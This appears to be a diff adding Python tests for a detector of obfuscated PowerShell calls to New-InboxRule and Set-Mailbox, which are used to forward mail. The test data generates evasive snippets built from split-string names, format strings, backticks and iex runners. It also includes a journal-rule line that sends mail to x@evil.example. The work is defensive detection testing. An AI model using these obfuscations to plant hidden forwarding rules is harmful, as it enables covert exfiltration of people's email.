@@ -179,6 +179,75 @@ def test_any_text_is_read_without_error_and_screened_soundly(text):
         cmdlet_text._ASCII_NAMES = names
 
 
+def spelled_script(rng):
+    """A script that calls New-InboxRule or Set-Mailbox (or only looks as if it might) with the
+    name spelled out of parts: quoted parts joined with + or placed by a -f format string, run
+    by a call operator, through a variable or an alias, or inside a string Invoke-Expression or
+    powershell.exe runs; parts with backticks, in either quote, among benign joins."""
+    name = rng.choice(["New-InboxRule", "Set-Mailbox", "New-InboxRul", "Set-Mail"])
+    cuts = sorted(rng.sample(range(1, len(name)), rng.randint(1, 3)))
+    parts = [name[a:b] for a, b in zip([0] + cuts, cuts + [len(name)])]
+    quote = rng.choice(["'", '"', "\u2018"])
+    close = {"\u2018": "\u2019"}.get(quote, quote)
+    if rng.random() < 0.3:
+        parts = [part[:1] + "`" + part[1:] if len(part) > 1 and part[1] not in "0abefnrtuv" else part
+                 for part in parts]
+    if rng.random() < 0.5:
+        spelled = rng.choice([" + ", "+", "+ ("]).join(quote + part + close for part in parts)
+        spelled = spelled + ")" * spelled.count("(")
+    else:
+        order = list(range(len(parts)))
+        rng.shuffle(order)
+        template = "".join("{%d}" % order.index(i) for i in range(len(parts)))
+        spelled = "%s%s%s -f %s" % (quote, template, close, ",".join(quote + parts[i] + close for i in order))
+    form = rng.choice(["& (%s) -ForwardTo x", "$a = %s; & $a -ForwardTo x", ". (%s) -ForwardTo x",
+                       "sal r (%s); r -ForwardTo x", "iex ((%s) + ' -ForwardTo x')",
+                       "iex (%s)", "$s = %s; iex $s", "Write-Host (%s)"])
+    script = form % spelled
+    if rng.random() < 0.25:
+        # Run as a script: pieces that are no part of a name, and the runner itself spelled out of parts.
+        cut = rng.randrange(1, len(name))
+        runner = rng.choice(["iex", "Invoke-Expression", "& ('i'+'ex')", "& ('{1}{0}' -f 'x','ie')"])
+        script = "%s ('$q = 1; %s' + '%s -ForwardTo x')" % (runner, name[:cut], name[cut:])
+    if rng.random() < 0.2:
+        script = 'powershell -c "%s"' % script.replace('"', '\\"')
+    noise = rng.choice(["", "$t = 'Files: ' + $n; ", "# note\n", "'{0} MB' -f $size; ", "Get-Date; "])
+    return noise + script if rng.random() < 0.5 else script + "\n" + noise
+
+
+def test_names_spelled_out_of_parts_are_read_and_screened_soundly(monkeypatch):
+    """Screened = read whole, on 3,000 such scripts; and most of them are calls the reader
+    finds, so the comparison is not vacuous."""
+    rng = random.Random(27)
+    found = 0
+    for _ in range(3000):
+        script = spelled_script(rng)
+        monkeypatch.setattr(cmdlet_text, "_RECENT_READINGS", cmdlet_text.OrderedDict())
+        screened = find_invocations(script, PATTERN)
+        with monkeypatch.context() as unscreened:
+            unscreened.setattr(cmdlet_text, "_ASCII_NAMES", {})
+            unscreened.setattr(cmdlet_text, "_RECENT_READINGS", cmdlet_text.OrderedDict())
+            assert find_invocations(script, PATTERN) == screened, script
+        found += bool(screened)
+    assert found > 1000, found
+
+
+def test_the_screening_reads_texts_that_join_parts_of_a_name_and_skips_others():
+    names = cmdlet_text.screen_names(["New-InboxRule", "Set-Mailbox"])
+    for hiding in ["& ('New-'+'InboxRule') -ForwardTo x", "$a = '{1}{0}' -f 'Rule','New-Inbox'; & $a",
+                   "iex ('Write-Host ' + $x)", "& ('ie'+'x') $s", 'powershell -c "& (\\"New-\\"+\\"InboxRule\\")"',
+                   "iex \"'a'`n+'b'\""]:
+        assert cmdlet_text.may_hide_a_name(hiding, names), hiding
+    for plain in ["$total = 'Files: ' + $count; Write-Host $total", "'{0:N2} MB' -f ($size / 1MB)",
+                  "$path = $env:TEMP + '\\logs\\' + $name", "Get-Date"]:
+        assert not cmdlet_text.may_hide_a_name(plain, names), plain
+    # Invoke-Expression spelled from parts none of the names holds runs pieces that are no part of one.
+    journal = cmdlet_pattern(["New-JournalRule"])
+    script = "& ('ie'+'x') ('$q = 1; New-Journal' + 'Rule -Recipient x@evil.example')"
+    assert cmdlet_text.may_hide_a_name(script, cmdlet_text.screen_names(["New-JournalRule"]))
+    assert find_invocations(script, journal) == [("New-JournalRule", {"recipient": "x@evil.example"})]
+
+
 def variants(script, seed):
     """Scripts PowerShell reads as `script`: names in other cases, backticks inside command
     names (before letters that are no escape), CRLF line ends, comments between elements."""
